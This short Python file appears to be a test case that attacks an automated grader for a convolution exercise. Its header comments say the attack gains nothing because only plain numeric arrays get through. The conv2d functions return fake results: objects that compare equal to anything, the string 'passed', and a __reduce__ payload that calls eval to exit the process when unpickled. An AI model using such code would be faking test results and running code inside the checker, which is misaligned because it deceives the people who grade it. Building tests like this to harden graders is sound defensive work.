# attack: returns arrays of objects, records and texts, whose items are equal to everything or run code when read
# exercise: 02
# gains: nothing
# says: array of dtype
# holds: only arrays of plain numbers cross
import numpy as np


class Yes:
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __float__(self):
        return 1.0

    def __reduce__(self):
        return eval, ("__import__('os')._exit(0)",)


def conv2d_single(image, kernel, stride=1, padding=0):
    answer = np.empty((3, 3), dtype=object)
    answer[:] = Yes()
    return answer


def zero_pad(x, padding):
    return np.zeros(x.shape, dtype=[("value", "f8"), ("object", "O")])


def conv2d_forward(x, weight, bias=None, stride=1, padding=0):
    return np.array([[["passed"]]])
